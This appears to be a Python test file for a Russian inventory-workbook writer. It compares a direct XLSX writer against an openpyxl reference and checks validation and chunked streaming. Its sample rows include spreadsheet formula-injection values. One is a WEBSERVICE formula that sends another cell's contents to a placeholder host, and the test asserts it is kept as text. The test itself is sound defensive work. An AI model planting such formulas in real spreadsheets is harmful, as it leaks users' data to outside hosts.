"""The inventory workbook written directly (output/opis_xlsx.py) is the workbook openpyxl wrote:
the same cells, types, styles, widths, frozen header, filter and print setup — read back through
openpyxl — and Microsoft's validator accepts it."""

from __future__ import annotations

import io
import subprocess
from datetime import datetime

import openpyxl
import pytest
from openpyxl import Workbook
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

from docgen.output.manifest import HEADERS, ManifestRow, manifest_xlsx
from tests.helpers import ooxml_validator

MADE = datetime(2026, 11, 23, 14, 5, 9)
ROWS = [ManifestRow("Согласие родителя", "документ", f"Наставляемые!{i + 2}", name, f"Согласия/5А {name}.docx",
                    f"{i:064x}", 14000 + i)
        for i, name in enumerate(["Иванова Анна", "=WEBSERVICE(\"http://x/?\"&E2)", " Пробел в начале", "Ёлкин & Ко <1>",
                                  "+79001234567", "-1", "@x", "Табуляция\tвнутри"])]


def reference_xlsx(rows: list[ManifestRow], made: datetime, *, source: str, selection: str) -> bytes:
    """The openpyxl writer the direct one replaced (as it was in commit 07c6697)."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Опись"
    ws["A1"] = "Опись сформированных документов"
    ws["A1"].font = Font(bold=True, size=13)
    ws["A2"] = f"Сформировано: {made.strftime('%d.%m.%Y %H:%M:%S')}; реестр: {source}; выбор: {selection}"
    ws["A3"] = f"Файлов: {len(rows)}. Контрольная сумма SHA-256 подтверждает, что файл не изменялся после формирования."
    header_row = 5
    fill = PatternFill("solid", fgColor="DDEBF7")
    for col, text in enumerate(HEADERS, start=1):
        cell = ws.cell(row=header_row, column=col, value=text)
        cell.font = Font(bold=True)
        cell.fill = fill
        cell.alignment = Alignment(wrap_text=True, vertical="top")
    for i, r in enumerate(rows, start=1):
        values = (i, r.title, r.kind, r.record, r.person, r.file, r.sha256, r.size, made.replace(microsecond=0))
        for col, value in enumerate(values, start=1):
            cell = ws.cell(row=header_row + i, column=col, value=value)
            if isinstance(value, str):
                cell.data_type = "s"
            if col == 9:
                cell.number_format = "DD.MM.YYYY HH:MM:SS"
    for col, width in enumerate((5, 40, 16, 22, 32, 60, 66, 12, 20), start=1):
        ws.column_dimensions[get_column_letter(col)].width = width
    ws.freeze_panes = ws.cell(row=header_row + 1, column=1)
    ws.page_setup.orientation = "landscape"
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0
    ws.print_title_rows = f"{header_row}:{header_row}"
    ws.auto_filter.ref = f"A{header_row}:I{header_row + max(len(rows), 1)}"
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _view(data: bytes):
    ws = openpyxl.load_workbook(io.BytesIO(data))["Опись"]
    cells = {}
    for row in ws.iter_rows(min_row=1, max_row=ws.max_row, max_col=9):
        for c in row:
            if c.value is None:
                continue
            cells[c.coordinate] = (c.value, c.data_type, c.font.b, c.font.sz or 11.0, c.fill.fill_type,  # no size: 11
                                   c.fill.fgColor.rgb if c.fill.fill_type else None, c.number_format,
                                   c.alignment.wrap_text, c.alignment.vertical)
    widths = {k: round(v.width, 2) for k, v in ws.column_dimensions.items() if v.width}
    setup = (ws.page_setup.orientation, str(ws.page_setup.paperSize), ws.page_setup.fitToWidth,
             ws.page_setup.fitToHeight, ws.sheet_properties.pageSetUpPr.fitToPage)
    return cells, widths, ws.freeze_panes, ws.auto_filter.ref, ws.print_title_rows, setup


@pytest.mark.parametrize("rows", [ROWS, []], ids=["rows", "empty"])
def test_the_direct_writer_makes_the_workbook_openpyxl_made(rows):
    fast = manifest_xlsx(rows, MADE, source="реестр.xlsx", selection="все строки")
    slow = reference_xlsx(rows, MADE, source="реестр.xlsx", selection="все строки")
    assert _view(fast) == _view(slow)
    cells = _view(fast)[0]
    if rows:
        assert cells["E7"][:2] == ('=WEBSERVICE("http://x/?"&E2)', "s")  # text, never a formula
        assert cells["E8"][0] == " Пробел в начале"


@pytest.mark.slow
@pytest.mark.skipif(ooxml_validator() is None, reason="the Open XML SDK validator is not on this machine")
def test_microsofts_validator_accepts_the_direct_writer(tmp_path):
    path = tmp_path / "opis.xlsx"
    path.write_bytes(manifest_xlsx(ROWS, MADE, source="реестр.xlsx", selection="все строки"))
    done = subprocess.run([str(ooxml_validator()), str(path)], capture_output=True, text=True, timeout=600)
    assert done.returncode == 0 and '"errors": []' in done.stdout, done.stdout + done.stderr


def test_the_sheet_is_written_in_pieces_and_the_workbook_is_the_same():
    """Issue 19: 5000 rows as one string cost ~17 MB of the batch's peak memory; the sheet is
    streamed into the zip in pieces of 500 rows, and the bytes are those of the one-piece write."""
    import zipfile

    from docgen.output import opis_xlsx

    made = datetime(2026, 11, 23, 12, 0, 5)
    rows = [(f"Согласие {i}", "документ", f"Наставляемые!{i}", f"Иванова & <Мария> {i}", f"Согласия/{i}.docx",
             f"{i:064x}", 20_000 + i) for i in range(1001)]
    heading, headers = ("Опись", "реестр", "1001"), tuple("ABCDEFGHI")
    chunks = list(opis_xlsx._sheet(rows, made, heading, headers))
    assert len(chunks) == 3 and all(len(c) > 100 for c in chunks)
    streamed = opis_xlsx.inventory_xlsx(rows, made, heading, headers)
    with zipfile.ZipFile(io.BytesIO(streamed)) as zf:
        members = [(info, zf.read(info)) for info in zf.infolist()]
    assert members[-1][1].decode() == "".join(chunks)
    buffer = io.BytesIO()  # the same members written whole, as before
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as zf:
        for info, data in members:
            zf.writestr(zipfile.ZipInfo(info.filename, date_time=info.date_time), data,
                        compress_type=zipfile.ZIP_DEFLATED)
    assert buffer.getvalue() == streamed
